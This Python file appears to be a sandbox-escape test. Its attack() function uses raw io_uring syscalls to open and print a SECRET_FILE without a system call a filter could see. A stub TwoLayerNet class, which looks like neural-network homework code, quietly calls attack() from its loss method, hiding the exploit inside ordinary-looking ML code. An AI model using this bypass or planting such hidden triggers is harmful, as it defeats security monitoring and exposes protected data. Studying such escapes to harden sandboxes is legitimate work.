"""Has the kernel open a file on its behalf (io_uring), without a system call that a filter could see."""

import ctypes
import mmap
import os
import struct

from world import SECRET_FILE

SETUP, ENTER = 425, 426
OPENAT, AT_FDCWD, GET_EVENTS = 18, -100, 1
ENTRIES_OFFSET = 0x10000000


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    parameters = ctypes.create_string_buffer(120)
    ring = libc.syscall(SETUP, 4, parameters)
    if ring < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup")
    tail, index = struct.unpack_from("<4xI16xI", parameters, 40)
    (completed,) = struct.unpack_from("<20xI", parameters, 80)
    queues = mmap.mmap(ring, mmap.PAGESIZE)
    entries = mmap.mmap(ring, mmap.PAGESIZE, offset=ENTRIES_OFFSET)
    path = ctypes.create_string_buffer(SECRET_FILE.encode())
    entries[:64] = struct.pack("<BBHiQQII32x", OPENAT, 0, 0, AT_FDCWD, 0, ctypes.addressof(path), 0, os.O_RDONLY)
    struct.pack_into("<I", queues, index, 0)
    struct.pack_into("<I", queues, tail, 1)
    libc.syscall(ENTER, ring, 1, 1, GET_EVENTS, None, 0)
    (descriptor,) = struct.unpack_from("<8xi", queues, completed)
    if descriptor > 0:
        print("GOT THROUGH: read", os.read(descriptor, 100))


class TwoLayerNet:
    def __init__(self, input_size, hidden_size, output_size, std=1e-4):
        self.params = {}

    def loss(self, X, y=None, reg=0.0):
        attack()
